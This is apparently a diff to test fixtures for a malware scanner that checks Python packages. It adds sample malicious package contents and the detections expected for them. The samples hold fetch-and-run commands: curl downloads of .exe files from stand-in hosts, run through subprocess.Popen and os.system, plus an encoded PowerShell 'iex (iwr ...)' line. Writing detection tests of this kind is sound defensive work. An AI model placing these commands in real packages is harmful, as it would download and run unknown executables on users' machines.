@@ -18,6 +18,20 @@ const ENCODED = Buffer.from('iex (iwr http://a.weir.test/p)', 'utf16le').toStrin
 export const samples: Samples = {
   malicious: [
     {
+      name: 'Python: a line in a list of one word, and what it stored',
+      files: wheel(
+        "import subprocess\nclass Own:\n    subprocess.Popen(['cd C:/ && curl https://files.weir.test/a.exe -o a.exe'], shell=True)\n    subprocess.Popen(['C:/a.exe'], shell=True)\n",
+      ),
+      expected: [{ rule: 'download-and-run', file: 'own/__init__.py', line: 3, severity: 'critical' }],
+    },
+    {
+      name: 'Python: a download under its own name, in quotes that the shell takes away',
+      files: wheel(
+        'import os\nos.system(\'"curl.exe -OLJ https://files.weir.test/b.exe"\')\nos.system(\'"b.exe -w own"\')\n',
+      ),
+      expected: [{ rule: 'download-and-run', file: 'own/__init__.py', line: 2, severity: 'critical' }],
+    },
+    {
       name: 'Python: stored by one command and started by another',
       files: wheel(
         'import subprocess\nsubprocess.Popen("curl https://dl.weir.test/dark.exe -o dark.exe", shell=True)\nsubprocess.Popen(["C:/dark.exe"])\n',
